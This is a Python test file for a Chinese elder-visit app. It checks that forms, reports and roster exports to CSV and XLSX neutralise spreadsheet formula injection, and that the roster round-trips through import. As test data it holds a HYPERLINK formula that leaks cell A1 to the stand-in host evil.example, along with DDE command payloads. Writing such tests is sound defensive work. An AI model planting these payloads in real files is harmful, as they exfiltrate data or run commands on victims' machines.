"""Formula injection (issue #14.23): no text ever becomes a live formula in an XLSX or CSV export —
forms, the monthly report and the roster — and the roster still round-trips through import."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from core import forms, reports
from core.tasks import close_task
from data import roster, sheets
from data.models import Elder, Task
from tests import records_fixture as rf
from tests.helpers import make_elder

SAMPLE = Path(__file__).resolve().parent.parent / "data" / "samples" / "roster_sample.csv"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'


@pytest.mark.parametrize("value, csv_value, formula_like", [
    ("=1+1", "'=1+1", True),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", True),
    ("-2+3", "'-2+3", True),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)", True),
    ("\t=1", "'\t=1", True),
    ("\r=1", "'\r=1", True),
    ("＝1+1", "'＝1+1", True),  # full width, as a Chinese input method types it
    ("+8613800001234", "+8613800001234", False),  # E.164 stays readable: digits only, no formula
    ("-12.50", "-12.50", False),
    ("'quoted", "''quoted", False),  # a leading quote is doubled, so restore() is exact
    ("王秀英", "王秀英", False),
    ("", "", False),
    (None, None, False),
    (42, 42, False),
])
def test_one_rule_for_every_writer(value, csv_value, formula_like):
    assert sheets.formula_like(value) is formula_like
    assert sheets.sheet_value(value) == csv_value
    if isinstance(value, str):
        assert sheets.restore(sheets.sheet_value(value)) == value


def _formula_cells(path) -> list[str]:
    """Every cell openpyxl reads as a formula, and every <f> element in the sheets' XML."""
    found = [f"{ws.title}!{c.coordinate}" for ws in openpyxl.load_workbook(path).worksheets
             for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as z:
        found += [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    return found


def test_a_visitors_closing_note_is_text_in_the_form_xlsx(sqlite_app, tmp_path):
    with sqlite_app.db.session() as s:
        ids = {k: v.id for k, v in rf.build(s).items()}
        task = s.scalar(select(Task).where(Task.visit_id == ids["v1"]))
        close_task(s, task, actor="visitor:1", outcome=EVIL)  # the 处理结果 typed by the visitor
        view = forms.build_view(s, ids["v1"])
    out = forms.write_xlsx([view], tmp_path / "form.xlsx")
    assert _formula_cells(out) == []
    cell = next(c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix  # shown as typed, stays text when edited


def test_report_xlsx_area_names_are_text(sqlite_app, tmp_path):
    county = "=2+5+cmd|' /C calc'!A0"  # an area name as a roster import could bring it
    with sqlite_app.db.session() as s:
        make_elder(s, county=county)
        rep = reports.public(reports.visit_report(s, "2026-11", by="county"))
    out = tmp_path / "report.xlsx"
    reports.write_xlsx(rep, out)
    assert _formula_cells(out) == []
    cell = openpyxl.load_workbook(out).active.cell(3, 1)
    assert cell.value == county and cell.data_type == "s" and cell.quotePrefix


def test_roster_exports_neutralise_and_still_round_trip(db, tmp_path):
    parsed = roster.parse_file(SAMPLE)
    with db.session() as s:
        roster.import_records(s, parsed.records)
        first = s.scalar(select(Elder).order_by(Elder.id))
        first.notes, first.address = EVIL, "-3号楼 @门卫室"
        csv_path, xlsx_path = tmp_path / "export.csv", tmp_path / "export.xlsx"
        roster.export_file(s, csv_path)
        roster.export_file(s, xlsx_path)
        expected = [r.comparable() for r in roster.records_from_db(s)]
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + EVIL in cells and "'-3号楼 @门卫室" in cells
    assert not [c for c in cells if sheets.formula_like(c)]  # nothing a spreadsheet would run
    assert _formula_cells(xlsx_path) == []
    for path in (csv_path, xlsx_path):  # export -> import gives exactly the same records
        again = roster.parse_file(path)
        assert again.errors == [] and [r.comparable() for r in again.records] == expected, path.suffix
        assert any(r.elder["notes"] == EVIL for r in again.records)


def test_phone_numbers_stay_readable(tmp_path):
    header = ["姓名", "联系电话", "备注"]
    rows = [{"姓名": "王秀英", "联系电话": "+8613800001234", "备注": "+86 请先打家属"}]
    roster.write_table(tmp_path / "t.csv", header, rows)
    roster.write_table(tmp_path / "t.xlsx", header, rows)
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1] == ["王秀英", "+8613800001234", "'+86 请先打家属"]
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    phone = ws.cell(2, 2)
    assert phone.value == "+8613800001234" and phone.data_type == "s" and phone.number_format == "@"
    assert ws.cell(2, 3).value == "+86 请先打家属" and ws.cell(2, 3).quotePrefix
